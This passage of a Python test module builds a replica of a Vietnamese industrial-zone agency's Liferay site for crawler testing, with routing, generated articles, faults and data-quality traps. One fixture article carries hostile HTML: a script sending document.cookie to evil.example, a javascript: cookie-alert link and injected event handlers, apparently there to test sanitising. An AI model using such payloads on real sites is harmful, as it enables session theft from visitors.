"""The replica of the HEPZA Liferay 7.4 site: routing, pages, sitemaps, feed, faults, truth."""

from __future__ import annotations

import hashlib
import re
import threading
import unicodedata
from collections import OrderedDict
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, quote, unquote, urlsplit

from tests.replica import render
from tests.replica.content import (
    AUTHORS,
    BYLINE_STYLES,
    CATEGORY_NAMES,
    EDIT_NOTE,
    GENERATED_VARIANTS,
    LEAF_CATEGORIES,
    MIGRATED_LEADS,
    NBSP,
    SPECIAL_KINDS,
    TAGS,
    Article,
    Attachment,
    Block,
    Image,
    byline_block,
    document_path,
    encode_slug,
    fold_text,
    friendly_url_title,
    generated_paragraphs,
    generated_title,
    liferay_shorten,
    migrated_lead,
    para,
    seed_parts,
    stable_rng,
)
from tests.replica.dates import (
    SITE_TZ,
    atom_date,
    epoch_ms,
    iso_offset,
    long_short,
    short_date,
    short_short,
    sitemap_lastmod,
)
from tests.replica.render import Ctx, Entry, Seo, esc, full_title
from tests.replica.structure import (
    CATEGORIES,
    CATEGORY_BY_KEY,
    DISPLAY,
    HOME,
    PAGES,
    Layout,
)

DEFAULT_BASE_URL = "https://hepza.hochiminhcity.gov.vn"
HTML = "text/html;charset=UTF-8"
XML = "text/xml;charset=UTF-8"
FAULT_KINDS: tuple[str, ...] = ("503", "500", "429", "truncated", "drop", "slow")
RELATED_FORMS: tuple[str, ...] = (
    "w",
    "w",
    "w_lower",
    "en",
    "vi_prefix",
    "jsession",
    "fragment",
    "absolute",
)
LAYOUT_MODIFIED = datetime(2022, 12, 1, 10, 0, tzinfo=SITE_TZ)
GENERATED_START = datetime(2021, 1, 4, 7, 0, tzinfo=SITE_TZ)
GENERATED_END = datetime(2025, 12, 31, 18, 0, tzinfo=SITE_TZ)
# When the migration re-created the old articles (the seed's display time).
MIGRATION_TIME = datetime(2023, 1, 18, 17, 48, tzinfo=SITE_TZ)
# The migrated articles' events: year-less leads within the year before MIGRATION_TIME,
# leads with their year in 2021.
MIGRATED_EVENTS_START = datetime(2022, 2, 3, 8, 0, tzinfo=SITE_TZ)
MIGRATED_EVENTS_WITH_YEAR_START = datetime(2021, 4, 6, 8, 0, tzinfo=SITE_TZ)
CACHE_SIZE = 1024
# Crawler traps (ReplicaConfig fields, all off by default).
ENDLESS_LISTING = "tin-hoat-dong"
ENDLESS_PAGES = 999_999
CALENDAR_PATH = "/lich-cong-tac"
CALENDAR_FIRST_DAY = 738_000
LINK_FARM_PATH = "/danh-ba-lien-ket"
MOVED_SLUG = "bai-viet-da-chuyen-sang-dia-chi-khac"
# The openings the replica writes with an event day and no year ("Ngày 12/10,", "Sáng 4/2,",
# "Sáng ngày 8/3,"): the truth reads its own leads, the crawler's reading is what is tested.
_TRUTH_OPENING = re.compile(r"(?:Ngày|Sáng|Sáng ngày) (?P<d>\d{1,2})/(?P<m>\d{1,2}),")


@dataclass(frozen=True)
class ReplicaConfig:
    articles: int = 60
    seed: int = 2023
    extra_articles: int = 0
    edited: tuple[int, ...] = ()
    broken: tuple[str, ...] = ()
    faults: bool = False
    delta: int = 5
    # data-quality traps (issue 9), each off by default; see QUALITY_TRAPS
    quality_traps: tuple[str, ...] = ()
    # The ENDLESS_LISTING pager always offers a next page: past the real pages they are
    # "empty", or "repeat" the last real page.
    endless_pager: str = ""
    # A menu item leads to CALENDAR_PATH?ngay=N, each day linking to N-1 and N+1.
    calendar_links: bool = False
    # A menu item leads to a page of this many links to distinct small non-article pages.
    link_farm: int = 0
    # When set, MOVED_SLUG (in the sitemap) answers 302 to a real article on this port.
    redirect_port: int = 0
    # Which portal is served: "hepza" (this module) or one of tests.replica.portal.PORTALS.
    portal: str = "hepza"
    # tests.replica.portal only: every other article (odd numbers) has a legacy display page
    # (6.2/7.0 layoutUuid: its sitemap URL is /web/<group>/-/<urlTitle>, its pages print the
    # day only), the others a display page template (/web/<group>/w/<urlTitle>, date and time);
    # both are also served under every other Liferay form (see PortalSite.url_forms).
    url_forms: bool = False
    # tests.replica.portal only: a listing serves this many pages (0: all); past them, 404.
    listing_pages: int = 0
    # Sitemaps (XML answers) sent gzip-encoded (Content-Encoding) in small chunks of a chunked
    # transfer, as a portal behind a compressing proxy does (tests/replica/server.py).
    sitemaps_gzip_chunked: bool = False
    # The server logs each request's arrival time and the requests in flight then
    # (ReplicaServer.timings; tests/politeness.py measures them).
    record_timing: bool = False
    # Every answer is held this long before it goes out (a slow portal: requests overlap).
    answer_seconds: float = 0.0
    # A block of this many old articles a portal migration re-created in one afternoon: each
    # displays MIGRATION_TIME's hour (the seed's 1/18/23 5:48 PM) and its lead opens with the
    # day of its event in 2021-2022, but for one in four (MIGRATED_NO_EVENT). Numbered after
    # the extra articles; the truth gives each article's event_date.
    migrated_articles: int = 0


# Data-quality traps, by name -> the generated article (by number) that carries it:
#   charset     served with "charset=ISO-8859-1" in its Content-Type over its UTF-8 bytes
#   controls    C0/C1 control characters in its title and in a body paragraph
#   long_title  a 100,000-character title
#   oversized   a body padded to OVERSIZED_BYTES
# and "dot_slug": links to /w/%2e%2e and /w/%2E%2E on the home page.
QUALITY_TRAPS: dict[str, int] = {"charset": 6, "controls": 7, "long_title": 8, "oversized": 9}
CONTROL_CHARS = "\x01\x08\x1b\x7f\x9f"
CONTROLS_PARAGRAPH = "Đoạn văn có ký tự\x02 điều khiển\x1f giữa\x90 các từ."
OVERSIZED_BYTES = 6 * 1024 * 1024
DOT_SLUG_HREFS = ("/w/%2e%2e", "/w/%2E%2E", "/en/w/%2e%2E")


def quality_trap_of(config: ReplicaConfig, number: int) -> str | None:
    return next((name for name in config.quality_traps if QUALITY_TRAPS.get(name) == number), None)


@dataclass(frozen=True)
class ReplicaResponse:
    status: int
    headers: tuple[tuple[str, str], ...]
    body: bytes
    # transient fault the server must act out: truncated | drop | slow (503/500/429 are
    # already in status and body); None for a normal answer
    fault: str | None = None


def fault_for(path_and_query: str, attempt: int) -> str | None:
    """The transient fault of a request: first attempts of about 1 path in 6."""
    if attempt != 1 or path_and_query.split("?", 1)[0] == "/robots.txt":
        return None
    digest = int.from_bytes(hashlib.sha256(path_and_query.encode()).digest()[:8], "big")
    if digest % 6:
        return None
    return FAULT_KINDS[(digest // 6) % len(FAULT_KINDS)]


@dataclass(frozen=True)
class NonArticle:
    slug: str
    kind: str  # deleted (404) | soft404 (200) | empty_shell (200)
    title: str

    @property
    def path(self) -> str:
        return "/w/" + encode_slug(self.slug)


NON_ARTICLES: tuple[NonArticle, ...] = (
    NonArticle(
        friendly_url_title("Hội thảo xúc tiến đầu tư vào các khu công nghiệp năm 2021"),
        "deleted",
        "Hội thảo xúc tiến đầu tư vào các khu công nghiệp năm 2021",
    ),
    NonArticle(
        friendly_url_title("Bản tin tạm ẩn chờ duyệt"), "soft404", "Bản tin tạm ẩn chờ duyệt"
    ),
    NonArticle(friendly_url_title("Bản tin nội bộ số 12"), "empty_shell", "Bản tin nội bộ số 12"),
)
NON_ARTICLE_BY_KIND = {n.kind: n for n in NON_ARTICLES}
NON_ARTICLE_SLUGS = frozenset(n.slug for n in NON_ARTICLES)

NFD_TITLE = "Khánh thành Trung tâm đào tạo nghề cho công nhân Khu chế xuất Tân Thuận"
NFD_PARAGRAPHS = (
    "Sáng ngày 8/3, Trung tâm đào tạo nghề cho công nhân Khu chế xuất Tân Thuận chính thức đi "
    "vào hoạt động, đáp ứng nhu cầu nâng cao tay nghề của người lao động.",
    "Trung tâm có diện tích hơn 2.000 mét vuông, gồm 12 phòng học lý thuyết và 6 xưởng thực hành "
    "được trang bị máy móc hiện đại.",
    "Trong năm đầu hoạt động, Trung tâm dự kiến đào tạo khoảng 1.500 lượt công nhân ở các ngành "
    "cơ khí, điện tử và may mặc.",
)
HOSTILE_TITLE = "Doanh nghiệp Khu công nghiệp Hiệp Phước cảnh báo thủ đoạn lừa đảo qua mạng"
IMAGES_TITLE = "Lãnh đạo Thành phố thăm các dự án trọng điểm tại Khu công nghệ cao"
NO_AUTHOR_TITLE = "Thông báo lịch nghỉ Tết Dương lịch năm 2022 của Ban Quản lý"


def _jsessionid(*parts: object) -> str:
    return hashlib.sha1(":".join(map(str, parts)).encode()).hexdigest()[:32].upper()


class ReplicaSite:
    def __init__(self, config: ReplicaConfig) -> None:
        self.config = config
        self.articles: list[Article] = []
        self.by_slug: dict[str, Article] = {}
        self._cache: OrderedDict[tuple[str, str], tuple[int, tuple[tuple[str, str], ...], bytes]]
        self._cache = OrderedDict()
        self._lock = threading.Lock()
        self._build()

    # ------------------------------------------------------------------------------- model

    def _add(self, art: Article) -> None:
        slug = art.slug
        n = 0
        # Liferay keeps url titles unique by appending -1, -2...
        while slug in self.by_slug or slug in NON_ARTICLE_SLUGS:
            n += 1
            slug = f"{art.slug}-{n}"
        art.slug = slug
        self.by_slug[slug] = art
        self.articles.append(art)

    def _build(self) -> None:
        cfg = self.config
        for index, kind in enumerate(SPECIAL_KINDS, start=1):
            self._add(self._special(index, kind))
        span = GENERATED_END - GENERATED_START
        step = span / max(cfg.articles, 1)
        for i in range(cfg.articles):
            number = len(SPECIAL_KINDS) + 1 + i
            rng = stable_rng(cfg.seed, number)
            jitter = timedelta(minutes=rng.randint(0, max(1, int(step.total_seconds() * 0.8 / 60))))
            published = (GENERATED_START + step * i + jitter).replace(second=0, microsecond=0)
            self._add(self._generated(number, "generated", published))
        self.base_count = len(self.articles)
        newest = max(a.published for a in self.articles)
        for k in range(cfg.extra_articles):
            number = self.base_count + 1 + k
            rng = stable_rng(cfg.seed, number, "extra")
            published = newest + timedelta(hours=3 * (k + 1), minutes=rng.randint(0, 120))
            self._add(self._generated(number, "extra", published))
        # event day truth of the migrated block: number -> day (None: the lead gives none)
        self.migrated_events: dict[int, date | None] = {}
        for k in range(cfg.migrated_articles):
            self._add(self._migrated(len(self.articles) + 1, k))
        for art in self.articles:
            trap = quality_trap_of(cfg, art.number)
            if trap == "controls":
                art.title = art.title[:12] + CONTROL_CHARS + art.title[12:]
            elif trap == "long_title":
                art.title = (art.title + " " + "Khu chế xuất Tân Thuận " * 5000)[:100_000]
        for art in self.articles:
            if art.number in cfg.edited:
                art.edited = True
                art.modified = art.modified + timedelta(days=5, minutes=17)
        self.by_number = {a.number: a for a in self.articles}
        order = sorted(self.articles, key=lambda a: (a.published, a.number), reverse=True)
        self.newest_first = [a.number for a in order]
        self.listings: dict[str, list[int]] = {}
        self.positions: dict[str, dict[int, int]] = {}
        for lay in CATEGORIES:
            members = set(lay.members)
            nums = [a.number for a in order if a.category in members]
            self.listings[lay.key] = nums
            self.positions[lay.key] = {n: i for i, n in enumerate(nums)}
        self.documents: dict[str, str] = {}
        for art in self.articles:
            for img in self._images(art):
                self.documents[img.path.split("?")[0]] = "image/jpeg"
            for att in self._attachments(art):
                self.documents[att.path.split("?")[0]] = "application/pdf"
        for path, _ in self._legal_documents():
            self.documents[path.split("?")[0]] = "application/pdf"

    def _ids(self, number: int) -> dict[str, Any]:
        return {
            "article_id": 30000 + number * 7,
            "asset_entry_id": 50000 + number * 3,
        }

    def _special(self, number: int, kind: str) -> Article:
        tz = SITE_TZ
        if kind == "seed":
            title, description, _, byline = seed_parts()
            published = datetime(2023, 1, 18, 17, 48, tzinfo=tz)
            return Article(
                number,
                kind,
                "seed",
                title,
                friendly_url_title(title),
                "hoat-dong-dang-doan-the",
                published,
                published,
                byline,
                0,
                ("đảng bộ", "hội nghị sơ kết"),
                description,
                **self._ids(number),
            )
        if kind == "nfd":
            title = unicodedata.normalize("NFD", NFD_TITLE)
            published = datetime(2022, 3, 8, 9, 15, tzinfo=tz)
            return Article(
                number,
                kind,
                "nfd",
                title,
                friendly_url_title(title),
                "tin-hoat-dong",
                published,
                published + timedelta(hours=2),
                "Thu Hà",
                1,
                ("khu chế xuất", "lao động"),
                unicodedata.normalize("NFD", NFD_PARAGRAPHS[0]),
                **self._ids(number),
            )
        if kind == "hostile":
            published = datetime(2022, 7, 22, 14, 2, tzinfo=tz)
            return Article(
                number,
                kind,
                "hostile_html",
                HOSTILE_TITLE,
                friendly_url_title(HOSTILE_TITLE),
                "tin-doanh-nghiep",
                published,
                published,
                "Hoàng Nam",
                3,
                ("doanh nghiệp FDI",),
                "Thời gian gần đây, nhiều doanh nghiệp tại Khu công nghiệp Hiệp Phước phản ánh "
                "tình trạng các đối tượng giả danh cơ quan nhà nước để lừa đảo qua mạng.",
                **self._ids(number),
            )
        if kind == "images":
            published = datetime(2026, 2, 4, 8, 30, tzinfo=tz)
            return Article(
                number,
                kind,
                "images_attachments",
                IMAGES_TITLE,
                friendly_url_title(IMAGES_TITLE),
                "tin-hoat-dong",
                published,
                published + timedelta(days=1, hours=3),
                "Bảo Anh",
                4,
                ("khu công nghiệp", "đầu tư"),
                "Sáng 4/2, đoàn lãnh đạo Thành phố đã đi thăm và kiểm tra tiến độ một số dự án "
                "trọng điểm tại Khu công nghệ cao, ghi nhận nhiều chuyển biến tích cực trong "
                "công tác giải ngân vốn đầu tư công.",
                **self._ids(number),
            )
        published = datetime(2021, 11, 30, 0, 5, tzinfo=tz)
        return Article(
            number,
            kind,
            "no_author",
            NO_AUTHOR_TITLE,
            friendly_url_title(NO_AUTHOR_TITLE),
            "thong-bao",
            published,
            published,
            None,
            0,
            ("cải cách hành chính",),
            "Ban Quản lý các Khu chế xuất và công nghiệp TP.HCM thông báo lịch nghỉ Tết Dương "
            "lịch năm 2022 đối với cán bộ, công chức, viên chức và người lao động.",
            **self._ids(number),
        )

    def _generated(self, number: int, kind: str, published: datetime) -> Article:
        rng = stable_rng(self.config.seed, number)
        variants = [v for v, w in GENERATED_VARIANTS for _ in range(w)]
        variant = rng.choice(variants)
        category = rng.choice(LEAF_CATEGORIES)
        title = generated_title(rng, category, published)
        lead = generated_paragraphs(number, self.config.seed, published, lead_only=True)[0][0]
        modified = published + rng.choice(
            (
                timedelta(0),
                timedelta(0),
                timedelta(minutes=rng.randint(5, 600)),
                timedelta(days=rng.randint(1, 20)),
            )
        )
        art = Article(
            number,
            kind,
            variant,
            title,
            friendly_url_title(title, fold_non_ascii=variant != "slug_uppercase"),
            category,
            published,
            modified,
            rng.choice(AUTHORS),
            rng.randrange(len(BYLINE_STYLES)),
            tuple(rng.sample(TAGS, rng.randint(1, 3))),
            lead,
            **self._ids(number),
        )
        art.date_style = variant if variant in ("cldr17", "cldr20") else "compat"
        art.journal_wrapper = variant == "journal_wrapper"
        if variant == "lead_image":
            art.lead_image = Image(
                document_path(number, f"anh-{number}.jpg", self.config.seed, published),
                f"Quang cảnh {title[0].lower()}{title[1:]}",
            )
        return art

    def _migrated(self, number: int, k: int) -> Article:
        """The k-th article of the migration block: an old article re-created at
        MIGRATION_TIME (within its hour), its lead opening with its event's day."""
        with_year = MIGRATED_LEADS[k % len(MIGRATED_LEADS)][1]
        start = MIGRATED_EVENTS_WITH_YEAR_START if with_year else MIGRATED_EVENTS_START
        # events 23 days apart (the year-less ones stay within Feb-Dec 2022)
        event = start + timedelta(days=23 * (k % 14))
        lead, gives_day = migrated_lead(k, event, self.config.seed)
        self.migrated_events[number] = event.date() if gives_day else None
        rng = stable_rng(self.config.seed, number, "migrated")
        category = rng.choice(LEAF_CATEGORIES)
        title = generated_title(rng, category, event)
        published = MIGRATION_TIME + timedelta(minutes=k % 12)
        return Article(
            number,
            "migrated",
            None,
            title,
            friendly_url_title(title),
            category,
            published,
            published,
            rng.choice(AUTHORS),
            rng.randrange(len(BYLINE_STYLES)),
            tuple(rng.sample(TAGS, rng.randint(1, 3))),
            lead,
            **self._ids(number),
        )

    def event_date_of(self, art: Article) -> date | None:
        """The truth of an article's event_date: the day its lead opens with as Vietnamese news
        writes it, the latest such day on or before its display day."""
        if art.kind == "migrated":
            return self.migrated_events[art.number]
        opening = _TRUTH_OPENING.match(unicodedata.normalize("NFC", art.description))
        if opening is None:
            return None
        day, month = int(opening["d"]), int(opening["m"])
        shown = art.published.date()
        for year in (shown.year, shown.year - 1):
            try:
                candidate = date(year, month, day)
            except ValueError:
                continue
            if candidate <= shown:
                return candidate
        return None

    def related_of(self, art: Article) -> list[tuple[Article | NonArticle, str]]:
        rng = stable_rng(self.config.seed, art.number, "related")
        # Related picks come from the base articles only, so extra articles change nobody else.
        picks = rng.sample(range(1, self.base_count + 1), min(6, self.base_count))
        chosen = [p for p in picks if p != art.number][: rng.randint(3, 5)]
        out: list[tuple[Article | NonArticle, str]] = [
            (self.by_number[p], rng.choice(RELATED_FORMS)) for p in chosen
        ]
        extra = {"seed": "deleted", "no_author": "soft404", "hostile": "empty_shell"}.get(art.kind)
        if extra:
            out.append((NON_ARTICLE_BY_KIND[extra], "w"))
        return out

    def _images(self, art: Article) -> list[Image]:
        if art.kind == "images":
            seed = self.config.seed
            return [
                Image(
                    document_path(art.number, "tham-du-an-1.jpg", seed, art.published),
                    "Đoàn lãnh đạo Thành phố thăm dự án tại Khu công nghệ cao",
                ),
                Image(
                    document_path(art.number, "tham-du-an-2.jpg", seed, art.published),
                    "Lãnh đạo Thành phố trao đổi với chủ đầu tư",
                ),
            ]
        return [art.lead_image] if art.lead_image else []

    def _attachments(self, art: Article) -> list[Attachment]:
        if art.kind != "images":
            return []
        seed = self.config.seed
        return [
            Attachment(
                document_path(art.number, "ke-hoach-123-kh-bql.pdf", seed, art.published),
                "Kế hoạch số 123/KH-BQL",
            ),
            Attachment(
                document_path(art.number, "danh-muc-du-an.pdf", seed, art.published),
                "Danh mục dự án trọng điểm năm 2026",
            ),
        ]

    def _legal_documents(self) -> list[tuple[str, str]]:
        when = datetime(2022, 6, 1, 8, 0, tzinfo=SITE_TZ)
        return [
            (document_path(900 + i, f"van-ban-{i}.pdf", self.config.seed, when), name)
            for i, name in enumerate(
                (
                    "Quyết định số 1625/QĐ-TTg",
                    "Nghị định số 35/2022/NĐ-CP về quản lý khu công nghiệp và khu kinh tế",
                    "Quy chế phối hợp số 12/QC-BQL",
                ),
                start=1,
            )
        ]

    def blocks(self, art: Article) -> list[Block]:
        """The article body as CKEditor HTML blocks, the byline last."""
        kind = art.kind
        out: list[Block] = []
        if kind == "seed":
            _, _, body, _ = seed_parts()
            out = [Block("<p>&nbsp;</p>", None) if p == NBSP else para(p) for p in body]
        elif kind == "nfd":
            out = [para(unicodedata.normalize("NFD", p)) for p in NFD_PARAGRAPHS]
        elif kind == "hostile":
            out = self._hostile_blocks(art)
        elif kind == "images":
            out = self._images_blocks(art)
        elif kind == "no_author":
            out = [
                para(art.description),
                para(
                    "Thời gian nghỉ từ ngày 01/01/2022 đến hết ngày 03/01/2022. Các đơn vị bố trí "
                    "cán bộ trực để giải quyết công việc phát sinh."
                ),
                para("Đề nghị các doanh nghiệp lưu ý để chủ động sắp xếp công việc."),
            ]
        elif kind == "migrated":
            # the lead, then a generated body
            out = [para(art.description), *self._generated_blocks(art)[1:]]
        else:
            out = self._generated_blocks(art)
        trap = quality_trap_of(self.config, art.number)
        if trap == "controls":
            out.append(para(CONTROLS_PARAGRAPH))
        elif trap == "oversized":
            filler = "Khu chế xuất Tân Thuận. " * (OVERSIZED_BYTES // 24 + 1)
            out.append(para(filler))
        if art.edited:
            out.append(para(EDIT_NOTE))
        if art.author:
            out.append(byline_block(art.author, art.byline_style))
        return out

    def _generated_blocks(self, art: Article) -> list[Block]:
        rng = stable_rng(self.config.seed, art.number, "markup")
        paragraphs = generated_paragraphs(art.number, self.config.seed, art.published)
        out: list[Block] = []
        if art.lead_image:
            out.append(self._figure(art.lead_image))
        for i, sentences in enumerate(paragraphs):
            text = " ".join(sentences)
            roll = rng.random()
            if roll < 0.25:
                body = esc(text)
                out.append(Block(f'<p style="text-align: justify;">{body}</p>', fold_text(text)))
            elif roll < 0.4 and len(sentences) > 1:
                first, rest = sentences[0], " ".join(sentences[1:])
                out.append(
                    Block(f"<p><strong>{esc(first)}</strong> {esc(rest)}</p>", fold_text(text))
                )
            elif roll < 0.55:
                out.append(
                    Block(
                        f'<p><span style="font-size:14px;">{esc(text)}</span></p>', fold_text(text)
                    )
                )
            else:
                out.append(para(text))
            if i == 0 and rng.random() < 0.3:
                out.append(Block("<p>&nbsp;</p>", None))
        return out

    def _figure(self, img: Image) -> Block:
        return Block(
            f'<figure class="image"><img alt="" src="{esc(img.path)}" '
            'style="width: 800px; height: 533px;" />'
            f"<figcaption>{esc(img.caption)}</figcaption></figure>",
            fold_text(img.caption),
        )

    def _hostile_blocks(self, art: Article) -> list[Block]:
        p2 = (
            "Người lao động cần cảnh giác với các cuộc gọi yêu cầu chuyển tiền hoặc cung cấp mã "
            "OTP, tuyệt đối không truy cập các đường dẫn lạ."
        )
        p3 = "Xem hướng dẫn nhận biết thủ đoạn lừa đảo tại đây hoặc gọi đường dây nóng 1900 1234."
        p4 = "Mọi thắc mắc xin liên hệ Phòng Quản lý doanh nghiệp để được hỗ trợ kịp thời."
        return [
            para(art.description),
            Block(
                "<script>document.write('<p>Nội dung chèn bằng script</p>');"
                "fetch('https://evil.example/steal?c=' + document.cookie);</script>",
                None,
            ),
            Block("<style>p { display: none } .x:after { content: 'Chèn CSS' }</style>", None),
            Block(
                f'<p onclick="alert(\'click\')" onmouseover="steal()">{esc(p2)}</p>',
                fold_text(p2),
            ),
            Block(
                '<iframe allowfullscreen="" frameborder="0" height="315" '
                'src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560"></iframe>',
                None,
            ),
            Block(
                "<p>Xem hướng dẫn nhận biết thủ đoạn lừa đảo "
                '<a href="javascript:alert(document.cookie)">tại đây</a> hoặc gọi đường dây nóng '
                '<a href="tel:19001234">1900 1234</a>.</p>',
                fold_text(p3),
            ),
            Block(
                f'<p><span onmouseover="this.innerHTML=\'x\'" style="color:red">{esc(p4)}</span>'
                "</p>",
                fold_text(p4),
            ),
        ]

    def _images_blocks(self, art: Article) -> list[Block]:
        img1, img2 = self._images(art)
        p2 = (
            "Tại Khu công nghệ cao, đoàn đã kiểm tra dự án mở rộng nhà máy sản xuất linh kiện "
            "điện tử với tổng vốn đầu tư hơn 500 triệu USD."
        )
        p3 = (
            "Lãnh đạo Thành phố đề nghị các sở, ngành tháo gỡ kịp thời vướng mắc về thủ tục, "
            "bảo đảm tiến độ các dự án theo kế hoạch."
        )
        return [
            para(art.description),
            self._figure(img1),
            para(p2),
            Block(
                f'<p style="text-align: center;"><img alt="{esc(img2.caption)}" '
                f'src="{esc(img2.path)}" style="width: 800px; height: 600px;" /></p>',
                None,
            ),
            Block(
                f'<p style="text-align: center;"><em>{esc(img2.caption)}</em></p>',
                fold_text(img2.caption),
            ),
            para(p3),
        ]

    # ------------------------------------------------------------------------------- URLs

    def _slug_href(self, art: Article | NonArticle, form: str, ctx: Ctx, page_key: str) -> str:
        upper = encode_slug(art.slug) if isinstance(art, NonArticle) else art.slug_path
        prefix = ctx.prefix
        if form == "w_lower":
            return f"{prefix}/w/{encode_slug(art.slug, lower_hex=True)}"
        if form == "en":
            return f"/en/w/{upper}"
        if form == "vi_prefix":
            return f"/vi/w/{upper}"
        if form == "jsession":
            return f"{prefix}/w/{upper};jsessionid={_jsessionid(self.config.seed, page_key)}"
        if form == "fragment":
            return f"{prefix}/w/{upper}#main-content"
        if form == "absolute":
            return f"{ctx.base}{prefix}/w/{upper}"
        return f"{prefix}/w/{upper}"

    def _truth_path(self, art: Article, form: str, locale_prefix: str) -> str:
        upper = art.slug_path
        if form == "w_lower":
            return f"{locale_prefix}/w/{art.slug_path_lower}"
        if form == "en":
            return f"/en/w/{upper}"
        if form == "vi_prefix":
            return f"/vi/w/{upper}"
        return f"{locale_prefix}/w/{upper}"

    def page_query(self, lay: Layout, cur: int) -> str:
        pid, ns = lay.portlet_id, lay.namespace
        return (
            f"?p_p_id={pid}&p_p_lifecycle=0&p_p_state=normal&p_p_mode=view"
            f"&{ns}delta={self.config.delta}&p_r_p_resetCur=false&{ns}cur={cur}"
        )

    def page_path(self, lay: Layout, cur: int, prefix: str) -> str:
        """Relative URL of listing page cur (page 1 is the bare layout URL)."""
        path = prefix + lay.linked
        return path if cur == 1 else path + self.page_query(lay, cur)

    def feed_query(self, lay: Layout) -> str:
        return (
            f"?p_p_id={lay.portlet_id}&p_p_lifecycle=2&p_p_state=normal&p_p_mode=view"
            "&p_p_resource_id=getRSS&p_p_cacheability=cacheLevelPage"
        )

    def content_path(self, lay: Layout, art: Article, prefix: str, pos: int) -> str:
        cur = pos // self.config.delta + 1
        redirect = quote(self.page_path(lay, cur, prefix), safe="")
        path = (
            f"{prefix}{lay.linked}/-/asset_publisher/{lay.instance_id}/content/"
            f"{art.slug_path}?redirect={redirect}"
        )
        return path + "&inheritRedirect=true" if pos % 2 else path

    def _entry_href(self, lay: Layout, art: Article, ctx: Ctx, pos: int) -> str:
        upper = art.slug_path
        base = ctx.base + ctx.prefix
        if lay.link_form == "content":
            return ctx.base + self.content_path(lay, art, ctx.prefix, pos)
        if lay.link_form == "w_lower":
            return f"{base}/w/{art.slug_path_lower}"
        if (lay.link_form == "w_jsession" and pos % 3 == 0) or lay.link_form == "jsession_all":
            return f"{base}/w/{upper};jsessionid={_jsessionid(self.config.seed, lay.key, pos)}"
        return f"{base}/w/{upper}"

    # ------------------------------------------------------------------------------- entry point

    def handle(
        self, method: str, path_and_query: str, attempt: int, *, base_url: str | None = None
    ) -> ReplicaResponse:
        base = (base_url or DEFAULT_BASE_URL).rstrip("/")
        fault = fault_for(path_and_query, attempt) if self.config.faults else None
        if method not in ("GET", "HEAD"):
            return ReplicaResponse(405, (("Content-Type", HTML), ("Allow", "GET, HEAD")), b"", None)
        if fault in ("503", "500", "429"):
            status = int(fault)
            reason = {503: "Service Unavailable", 500: "Internal Server Error"}.get(
                status, "Too Many Requests"
            )
            headers: tuple[tuple[str, str], ...] = (("Content-Type", HTML),)
            if status == 429:
                headers += (("Retry-After", "1"),)
            return ReplicaResponse(status, headers, render.error_page(status, reason), fault)
        key = (path_and_query, base)
        with self._lock:
            hit = self._cache.get(key)
            if hit is not None:
                self._cache.move_to_end(key)
        if hit is None:
            hit = self._route(path_and_query, base)
            with self._lock:
                self._cache[key] = hit
                if len(self._cache) > CACHE_SIZE:
                    self._cache.popitem(last=False)
        status, headers, body = hit
        return ReplicaResponse(status, headers, body, fault)

    def _html(self, text: str, status: int = 200) -> tuple[int, tuple[tuple[str, str], ...], bytes]:
        return status, (("Content-Type", HTML),), text.encode("utf-8")

    def _route(
        self, path_and_query: str, base: str
    ) -> tuple[int, tuple[tuple[str, str], ...], bytes]:
        raw_path, _, query = path_and_query.partition("?")
        # ;jsessionid=... and other path parameters do not name a resource
        path = "/".join(seg.split(";", 1)[0] for seg in raw_path.split("/")) or "/"
        if path == "/robots.txt":
            return 200, (("Content-Type", "text/plain;charset=UTF-8"),), self._robots(base)
        if path == "/sitemap.xml":
            return 200, (("Content-Type", XML),), self._sitemap(base, query)
        if path.startswith("/documents/"):
            ctype = self.documents.get(path)
            if ctype is None:
                return self._not_found(base, path_and_query, Ctx(base, "vi-VN"))
            body = b"%PDF-1.4\n%replica\n%%EOF\n" if ctype == "application/pdf" else JPEG
            return 200, (("Content-Type", ctype),), body
        if path.startswith("/o/kcx-hepza/") or path.startswith("/image/"):
            ctype = "text/css" if path.endswith(".css") else "image/gif"
            return 200, (("Content-Type", ctype),), b"/* replica */" if ctype == "text/css" else GIF
        if path == "/index":
            return 301, (("Content-Type", HTML), ("Location", base + "/")), b""
        locale = "vi-VN"
        rest = path
        for prefix, loc in (("/en", "en-US"), ("/vi", "vi-VN")):
            if path == prefix or path.startswith(prefix + "/"):
                locale, rest = loc, path[len(prefix) :] or "/"
                break
        ctx = Ctx(base, locale, self._trap_menu())
        if rest == "/search":
            return self._html(self._simple_page(ctx, "Tìm kiếm", "/search", "<p>Tìm kiếm</p>"))
        trap = self._trap_page(ctx, rest, query)
        if trap is not None:
            return trap
        if rest.startswith("/w/"):
            return self._display_page(ctx, unquote(rest[3:]), path_and_query)
        if rest.startswith("/web/guest"):
            rest = rest[len("/web/guest") :] or "/"
        if len(rest) > 1 and rest.endswith("/"):
            rest = rest[:-1]
        if rest in ("/", HOME.friendly):
            return self._html(self._home(ctx))
        if "/-/asset_publisher/" in rest:
            return self._asset_publisher_path(ctx, rest, path_and_query)
        for lay in CATEGORIES:
            if rest == lay.friendly:
                return self._category(ctx, lay, query)
        for lay in PAGES:
            if rest == lay.friendly:
                return self._html(self._static_page(ctx, lay))
        return self._not_found(base, path_and_query, ctx)

    # ------------------------------------------------------------------------------- pages

    def _not_found(
        self, base: str, path_and_query: str, ctx: Ctx, status: int = 404
    ) -> tuple[int, tuple[tuple[str, str], ...], bytes]:
        seo = Seo(full_title(render.LABELS[ctx.locale]["not_found"]), "/", "/en")
        page = render.theme(ctx, seo, render.not_found_body(base + path_and_query), "status")
        return self._html(page, status)

    def _robots(self, base: str) -> bytes:
        return (
            "User-Agent: *\n"
            "Disallow: /c/\n"
            "Disallow: /group/\n"
            "Disallow: /user/\n"
            "Disallow: /api/\n"
            "Disallow: /search\n"
            "Disallow: /*?p_p_lifecycle=1\n"
            "Disallow: /*&p_p_lifecycle=1\n"
            "Disallow: /*p_p_id=com_liferay_login_web_portlet_LoginPortlet\n"
            "Allow: /\n"
            "\n"
            f"Sitemap: {base}/sitemap.xml\n"
        ).encode()

    def _entry(self, lay: Layout, art: Article, ctx: Ctx, pos: int) -> Entry:
        image = self._images(art)
        return Entry(
            title=art.title,
            href=self._entry_href(lay, art, ctx, pos),
            summary=liferay_shorten(art.description, lay.abstract_length),
            date_short=short_date(art.published, ctx.locale),
            date_long=long_short(art.published, ctx.locale),
            asset_entry_id=art.asset_entry_id,
            resource_prim_key=art.article_id + 1,
            image=ctx.base + image[0].path if image else None,
        )

    def _home(self, ctx: Ctx) -> str:
